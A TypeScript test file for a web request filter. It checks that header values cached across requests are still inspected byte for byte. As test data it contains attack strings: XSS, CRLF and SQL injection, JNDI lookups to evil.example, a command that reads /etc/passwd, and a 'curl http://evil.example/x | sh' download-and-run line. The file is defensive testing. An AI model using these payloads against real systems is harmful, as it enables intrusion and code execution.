// The filter hands a request the previous request's buffer for a common header whose value has the
// same bytes (filter/collect.ts), instead of a copy. A request must still be judged on its own bytes:
// a value that differs in one byte, in length, or only under another name is its own.
import { beforeAll, describe, expect, it } from "vitest";
import { runRequest, type RequestSpec } from "../../src/host/index.js";
import { filterRules, harnessRules, loadFilter } from "../support/filter.js";
import { loadHarness, type Harness } from "../support/harness.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const get = (headers: [string, string][]): RequestSpec => ({ method: "GET", path: "/", authority: "svc.local", headers });

// Same length, different bytes in the middle (the comparison must read them all).
const CLEAN = "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0 xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";
const XSS = "Mozilla/5.0 (X11; Linux x86_64) <script>alert(document.domain)</script>".padEnd(CLEAN.length, "x");
const CRLF = "Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0 xxxxxxxxxxxxxxx\r\nSet-Cookie: a=b";

describe("header values shared from request to request", () => {
  it("are judged on their own bytes: one byte, one length or one name apart", async () => {
    expect(XSS.length).toBe(CLEAN.length);
    const em = await loadFilter({ mode: "detect" });
    // each request's headers, and whether anything is found in them
    const sequence: [[string, string][], boolean][] = [
      [[["user-agent", CLEAN], ["accept", "text/html"]], false],
      [[["user-agent", CLEAN], ["accept", "text/html"]], false],
      [[["user-agent", XSS], ["accept", "text/html"]], true],
      [[["user-agent", CLEAN], ["accept", "text/html<svg onload=alert(1)>"]], true],
      [[["user-agent", CLEAN.slice(0, -1)], ["accept", "text/html"]], false],
      [[["user-agent", CLEAN + "x"], ["accept", "text/html"]], false],
      [[["user-agent", CRLF], ["accept", "text/html"]], true],
      [[["user-agent", CLEAN], ["referer", XSS]], true],
      [[["user-agent", XSS], ["referer", CLEAN]], true],
      [[["user-agent", CLEAN], ["referer", CLEAN]], false],
      [[["user-agent", XSS], ["accept", "text/html"]], true],
    ];
    for (let round = 0; round < 2; round++) {
      for (const [headers, found] of sequence) {
        const rules = filterRules(em, get(headers));
        expect(rules, JSON.stringify(headers)).toEqual(harnessRules(h, get(headers)));
        expect(rules.length > 0, JSON.stringify(headers)).toBe(found);
      }
    }
  });

  it("block an attack in a value right after the same header carried a clean one", async () => {
    const em = await loadFilter({ mode: "block" });
    for (let i = 0; i < 3; i++) {
      expect(runRequest(em, get([["user-agent", CLEAN]])).blocked).toBe(false);
      expect(runRequest(em, get([["user-agent", XSS]])).blocked).toBe(true);
    }
  });
});

/**
 * For each name in turn, `rounds` times: the clean headers twice, that name's attack, the clean headers,
 * then its clean bytes under a name with no plain shape (a target, found clean). The filter, sharing
 * buffers from request to request, finds what a fresh reading by the harness finds, and only in the attack.
 */
function expectEachAttackInspected(em: Awaited<ReturnType<typeof loadFilter>>, clean: [string, string][], attack: Record<string, string>, rounds: number): void {
  for (let round = 0; round < rounds; round++) {
    for (const [name, value] of clean) {
      const steps: [[string, string][], boolean][] = [
        [clean, false],
        [clean, false],
        [clean.map(([k, v]): [string, string] => [k, k == name ? attack[k] : v]), true],
        [clean, false],
        [[...clean, ["x-note", value]], false],
      ];
      for (const [headers, found] of steps) {
        const rules = filterRules(em, get(headers));
        expect(rules, JSON.stringify(headers)).toEqual(harnessRules(h, get(headers)));
        expect(rules.length > 0, JSON.stringify(headers)).toBe(found);
      }
    }
  }
}

// A value found plain (request/plain-headers.ts: no target) is remembered by its buffer
// (request/headers.ts plainHeader): the next request that shares that buffer skips the shape check.
// A value that is not plain, or plain bytes under a name that does not allow them, is still a target.
describe("plain header values remembered from request to request", () => {
  const PLAIN: [string, string][] = [
    ["accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"],
    ["accept-encoding", "gzip, deflate, br"],
    ["accept-language", "en-US,en;q=0.9"],
    ["cache-control", "no-cache"],
    ["x-forwarded-for", "10.1.2.3, 10.4.5.6"],
    ["referer", "https://shop.example.com/cart/items"],
    ["traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"],
  ];
  // what each name carries in an attack, in a shape it does not allow
  const ATTACK: Record<string, string> = {
    accept: "text/html;q=0.9<script>alert(document.domain)</script>",
    "accept-encoding": "gzip; cat /etc/passwd",
    "accept-language": "en-US' OR '1'='1' --",
    "cache-control": "no-cache, ${jndi:ldap://evil.example/a}",
    "x-forwarded-for": "10.1.2.3' UNION SELECT password FROM users --",
    referer: "https://shop.example.com/?q=<svg/onload=alert(1)>",
    traceparent: "00-4bf92f35' OR 1=1 --",
  };

  it("are plain again, and an attack under the same name right after is inspected", async () => {
    expectEachAttackInspected(await loadFilter({ mode: "detect" }), PLAIN, ATTACK, 3);
  });

  it("are judged on their own bytes after many other plain values took their slots", async () => {
    const em = await loadFilter({ mode: "block" });
    const languages = Array.from({ length: 80 }, (_, i) => `en-US,x${i};q=0.${(i % 9) + 1}`);
    for (const lang of languages) expect(runRequest(em, get([["accept-language", lang], ["accept-encoding", "gzip"]])).blocked).toBe(false);
    for (const lang of languages.slice(0, 10)) {
      expect(runRequest(em, get([["accept-language", lang]])).blocked).toBe(false);
      expect(runRequest(em, get([["accept-language", ATTACK["accept-language"]]])).blocked).toBe(true);
    }
  });
});


// A browser's fetch metadata and client hints (sec-fetch-*, sec-ch-ua*) are common names too: the same
// on each request of a session, so shared and remembered plain like the ones above. An attack in one
// of them, right after the clean value (or with the same length), is still inspected.
describe("browser fetch metadata and client hints shared from request to request", () => {
  const BROWSER: [string, string][] = [
    ["sec-fetch-site", "same-origin"],
    ["sec-fetch-mode", "navigate"],
    ["sec-fetch-dest", "document"],
    ["sec-fetch-user", "?1"],
    ["sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'],
    ["sec-ch-ua-mobile", "?0"],
    ["sec-ch-ua-platform", '"Windows"'],
  ];
  const ATTACK: Record<string, string> = {
    "sec-fetch-site": "same-origin<script>alert(document.domain)</script>",
    "sec-fetch-mode": "navigate; cat /etc/passwd",
    "sec-fetch-dest": "document' UNION SELECT password FROM users --",
    "sec-fetch-user": "${jndi:ldap://evil.example/a}",
    "sec-ch-ua": '"Chromium";v="124", "Google Chrome";v="1\' OR \'1\'=\'1\' --", "Not-A.Brand";v="99"',
    "sec-ch-ua-mobile": "?0<svg/onload=alert(1)>",
    "sec-ch-ua-platform": '"Windows"; curl http://evil.example/x | sh',
  };

  it("are plain again, and an attack under the same name right after is inspected", async () => {
    expectEachAttackInspected(await loadFilter({ mode: "detect" }), BROWSER, ATTACK, 2);
  });

  it("block a value of the same length as the clean one it follows", async () => {
    const em = await loadFilter({ mode: "block" });
    const clean = BROWSER.find(([k]) => k == "sec-ch-ua")![1];
    const attack = '"Chromium";v="124", <script>alert(1)</script>'.padEnd(clean.length, "x");
    expect(attack.length).toBe(clean.length);
    for (let i = 0; i < 3; i++) {
      expect(runRequest(em, get([["sec-ch-ua", clean]])).blocked).toBe(false);
      expect(runRequest(em, get([["sec-ch-ua", attack]])).blocked).toBe(true);
    }
  });
});

// The request-level checks of a header value alone (detectors/protocol.ts checkValue), of the path
// (checkPath) and of the Content-Type are remembered by buffer when they raised nothing: the next request
// that shares that buffer skips them. A value one byte apart, under another name, or after any number
// of clean repeats is checked again.
describe("request-level header checks remembered from request to request", () => {
  const CLEAN: [string, string][] = [
    ["x-forwarded-prefix", "/shop"],
    ["accept-encoding", "gzip, deflate"],
    ["cache-control", "no-cache"],
    ["sec-fetch-user", "?1"],
    ["x-forwarded-host", "shop.example.com"],
    ["referer", "https://shop.example.com/cart?note=a%20b"],
    ["user-agent", "curl/8.5.0"],
  ];
  // what each name carries that only the request-level checks find
  const ATTACK: Record<string, string> = {
    "x-forwarded-prefix": "//evil.example",
    "accept-encoding": "gzip, xyz",
    "cache-control": "no-cache,,",
    "sec-fetch-user": "?2",
    "x-forwarded-host": "0x7f000001",
    referer: "https://shop.example.com/cart?note=a%0d%0aSet-Cookie:%20sid=1",
    "user-agent": "curl/8.5.0\u0001",
  };

  it("are skipped for the clean value again, and an attack under the same name right after is checked", async () => {
    expectEachAttackInspected(await loadFilter({ mode: "detect" }), CLEAN, ATTACK, 3);
  });

  it("check the path and the Content-Type again when one byte changes, after many clean repeats", async () => {
    const em = await loadFilter({ mode: "detect" });
    const post = (path: string, type: string): RequestSpec => ({
      method: "POST", path, authority: "svc.local", headers: [["content-type", type]], body: '{"a":1}',
    });
    const clean = post("/files/report.txt", "application/json");
    for (let i = 0; i < 50; i++) expect(filterRules(em, clean)).toEqual([]);
    for (const [attack, rule] of [[post("/files/report.bak", "application/json"), 1070], [post("/files/report.txt", "application/jsox"), 1010]] as const) {
      for (let i = 0; i < 2; i++) {
        const rules = filterRules(em, attack);
        expect(rules).toEqual(harnessRules(h, attack));
        expect(rules).toContain(rule);
        expect(filterRules(em, clean)).toEqual([]);
      }
    }
  });

  it("remember no value a rule was raised on while its category was switched off", async () => {
    const em = await loadFilter({ mode: "block", disabledCategories: ["protocol"] });
    const spec = get([["cache-control", ATTACK["cache-control"]], ["sec-fetch-user", ATTACK["sec-fetch-user"]]]);
    for (let i = 0; i < 3; i++) expect(runRequest(em, spec).blocked).toBe(false);
    expect(em.reconfigure({ mode: "block" })).toBe(true);
    for (let i = 0; i < 2; i++) expect(runRequest(em, spec).blocked).toBe(true);
  });
});
